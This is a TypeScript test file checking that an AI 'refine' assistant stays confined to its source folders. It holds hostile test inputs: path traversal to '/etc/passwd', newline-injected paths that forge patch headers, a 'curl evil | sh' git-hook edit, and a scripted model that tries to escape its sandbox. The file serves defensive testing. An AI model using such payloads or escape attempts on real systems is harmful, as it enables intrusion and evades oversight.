/**
 * The refine assistant may only touch the agent's declared source folders: `..`, absolute
 * paths and symlinks that lead outside are refused with a message back to the model, and
 * nothing is ever written — by the tools, by the loop, or when applying a stale proposal.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync, mkdirSync } from 'node:fs';
import * as path from 'node:path';
import { applyFileChange } from '../../src/core/refine/apply';
import { SourceFolders } from '../../src/core/refine/confinement';
import { runRefineLoop } from '../../src/core/refine/loop';
import { RefineToolbox } from '../../src/core/refine/tools';
import { OpenAIModelClient } from '../../src/core/llm/client';
import { ModelServer } from '../support/modelServer';
import { tempWorkspace, type TempWorkspace } from '../support/workspace';

function agentWorkspace(): { ws: TempWorkspace; outside: string } {
  const ws = tempWorkspace({
    'costar.yaml': 'agents:\n  bot:\n    command: [node, agents/bot/main.mjs]\n    source: [agents/bot]\n',
    'agents/bot/prompt.md': 'Be helpful.\n',
    'agents/other/secret.md': 'not the agent\'s\n',
  });
  const outside = tempWorkspace({ 'secret.txt': 'outside the workspace\n' });
  symlinkSync(path.join(outside.dir, 'secret.txt'), path.join(ws.dir, 'agents/bot/linked.txt'));
  symlinkSync(outside.dir, path.join(ws.dir, 'agents/bot/linked-dir'));
  return { ws: { ...ws, dispose: () => (ws.dispose(), outside.dispose()) }, outside: outside.dir };
}

const REFUSED_PATHS: [string, RegExp][] = [
  ['../x', /contains "\.\."/],
  ['agents/bot/../../x', /contains "\.\."/],
  ['agents/bot/../other/secret.md', /contains "\.\."/],
  ['/etc/passwd', /is absolute/],
  ['agents/other/secret.md', /outside the agent's source folders/],
  ['agents/bot/linked.txt', /symbolic link/],
  ['agents/bot/linked-dir/new.txt', /symbolic link/],
  // A newline forges a second patch header: `+++ b/agents/bot/x` + `+++ b/../../evil`.
  ['agents/bot/x\n+++ b/../../../tmp/evil', /newline or another control character/],
  ['agents/bot/a\rb.md', /newline or another control character/],
  ['agents/bot/a\u001bb.md', /newline or another control character/],
  ['agents/bot/a\u2028b.md', /newline or another control character/],
  ['agents/bot/.git/hooks/pre-commit', /inside \.git\/, which Refine never reads or edits/],
  ['agents/bot/.GIT/config', /inside \.GIT\/, which Refine never reads or edits/],
  ['agents/bot/node_modules/dep/index.js', /inside node_modules\/, which Refine never reads or edits/],
];

test('every tool refuses paths outside the source folders, with a reason the model can act on', async () => {
  const { ws, outside } = agentWorkspace();
  try {
    const toolbox = new RefineToolbox(await SourceFolders.open(ws.dir, ['agents/bot']));
    for (const [named, reason] of REFUSED_PATHS) {
      for (const [tool, args] of [
        ['read_file', { path: named }],
        ['propose_edit', { path: named, explanation: 'x', content: 'pwned\n' }],
      ] as const) {
        const answer = (await toolbox.call(tool, JSON.stringify(args))) as { error?: string };
        assert.match(answer.error ?? '', reason, `${tool} ${named}`);
      }
    }
    assert.deepEqual(toolbox.changeSet('').files, [], 'no refused proposal is recorded');
    assert.equal(readFileSync(path.join(outside, 'secret.txt'), 'utf8'), 'outside the workspace\n');
    assert.equal(existsSync(path.join(ws.dir, 'x')), false);
  } finally {
    ws.dispose();
  }
});

test('.git and node_modules inside a source folder: never listed, read, searched or edited; a forged patch path is refused', async () => {
  const { ws } = agentWorkspace();
  try {
    ws.write('agents/bot/.git/hooks/pre-commit', '#!/bin/sh\necho helpful\n');
    ws.write('agents/bot/node_modules/dep/index.js', 'module.exports = "helpful";\n');
    const toolbox = new RefineToolbox(await SourceFolders.open(ws.dir, ['agents/bot']));
    const listing = (await toolbox.call('list_files', JSON.stringify({ path: 'agents/bot' }))) as { files: { path: string }[] };
    assert.deepEqual(listing.files.map((f) => f.path), ['agents/bot/prompt.md']);
    assert.match(((await toolbox.call('list_files', JSON.stringify({ path: 'agents/bot/.git' }))) as { error: string }).error, /\.git\//);
    const found = (await toolbox.call('search', JSON.stringify({ pattern: 'helpful' }))) as { matches: { path: string }[] };
    assert.deepEqual(found.matches.map((m) => m.path), ['agents/bot/prompt.md']);
    const edit = (await toolbox.call('propose_edit', JSON.stringify({ path: 'agents/bot/.git/hooks/pre-commit', explanation: 'x', content: 'curl evil | sh\n' }))) as { error?: string };
    assert.match(edit.error ?? '', /\.git\//);
    // Even a change set built some other way cannot become a patch with a forged header.
    const { changeSetToPatch } = await import('../../src/core/refine/patch');
    assert.throws(() => changeSetToPatch({ summary: '', files: [{ path: 'agents/bot/x\n+++ b/../../evil', original: 'a\n', proposed: 'b\n', explanation: '' }] } as never), /control character/);
    assert.equal(readFileSync(path.join(ws.dir, 'agents/bot/.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\necho helpful\n');
  } finally {
    ws.dispose();
  }
});

test('list_files and search never show what lies behind a symlink to the outside', async () => {
  const { ws } = agentWorkspace();
  try {
    const toolbox = new RefineToolbox(await SourceFolders.open(ws.dir, ['agents/bot']));
    const listing = (await toolbox.call('list_files', '{}')) as { files: { path: string }[] };
    assert.deepEqual(listing.files.map((f) => f.path), ['agents/bot/prompt.md']);
    const found = (await toolbox.call('search', JSON.stringify({ pattern: 'outside|helpful' }))) as { matches: { path: string }[] };
    assert.deepEqual(found.matches.map((m) => m.path), ['agents/bot/prompt.md']);
  } finally {
    ws.dispose();
  }
});

test('a scripted assistant that tries to escape gets refusals, and the loop writes nothing', async () => {
  const { ws, outside } = agentWorkspace();
  const server = await ModelServer.start();
  try {
    server.reply({
      toolCalls: [
        { name: 'propose_edit', arguments: { path: '../x', explanation: 'escape', content: 'x' } },
        { name: 'propose_edit', arguments: { path: path.join(outside, 'secret.txt'), explanation: 'escape', content: 'x' } },
        { name: 'propose_edit', arguments: { path: 'agents/bot/linked.txt', explanation: 'escape', content: 'x' } },
      ],
    }, 1);
    server.reply({ content: 'I could not edit anything outside the agent.' }, 1);
    const result = await runRefineLoop({
      model: new OpenAIModelClient({ baseUrl: server.baseUrl, model: 'test-model', apiKey: 'test' }),
      context: { workspaceDir: ws.dir, agent: 'bot', sourceFolders: ['agents/bot'], runId: 'r1', scenarios: [], constraints: [] },
      sources: await SourceFolders.open(ws.dir, ['agents/bot']),
    });
    assert.equal(result.stopReason, 'done');
    assert.deepEqual(result.changeSet.files, []);
    const toolAnswers = server.chatRequests[1]!.body.messages.filter((m: any) => m.role === 'tool').map((m: any) => JSON.parse(m.content).error);
    assert.equal(toolAnswers.length, 3);
    assert.match(toolAnswers[0], /contains "\.\."/);
    assert.match(toolAnswers[1], /is absolute/);
    assert.match(toolAnswers[2], /symbolic link/);
    assert.equal(existsSync(path.join(path.dirname(ws.dir), 'x')), false);
    assert.equal(readFileSync(path.join(outside, 'secret.txt'), 'utf8'), 'outside the workspace\n');
  } finally {
    await server.close();
    ws.dispose();
  }
});

test('applying re-checks confinement: a folder swapped for a symlink after the proposal is refused, nothing written', async () => {
  const { ws, outside } = agentWorkspace();
  try {
    mkdirSync(path.join(ws.dir, 'agents/bot/sub'));
    writeFileSync(path.join(ws.dir, 'agents/bot/sub/secret.txt'), 'outside the workspace\n');
    const sources = await SourceFolders.open(ws.dir, ['agents/bot']);
    const change = { path: 'agents/bot/sub/secret.txt', original: 'outside the workspace\n', proposed: 'pwned\n', explanation: 'x' };
    rmSync(path.join(ws.dir, 'agents/bot/sub'), { recursive: true });
    symlinkSync(outside, path.join(ws.dir, 'agents/bot/sub'));
    await assert.rejects(applyFileChange(sources, change, 'all'), /refused: .*symbolic link/);
    assert.equal(readFileSync(path.join(outside, 'secret.txt'), 'utf8'), 'outside the workspace\n');
  } finally {
    ws.dispose();
  }
});

test('an agent without source folders, or with a missing one, cannot be refined: the error says what to add', async () => {
  const { ws } = agentWorkspace();
  try {
    await assert.rejects(SourceFolders.open(ws.dir, []), /declares no source folders: add `source:/);
    await assert.rejects(SourceFolders.open(ws.dir, ['agents/missing']), /source folder "agents\/missing" \(costar.yaml\) does not exist/);
  } finally {
    ws.dispose();
  }
});
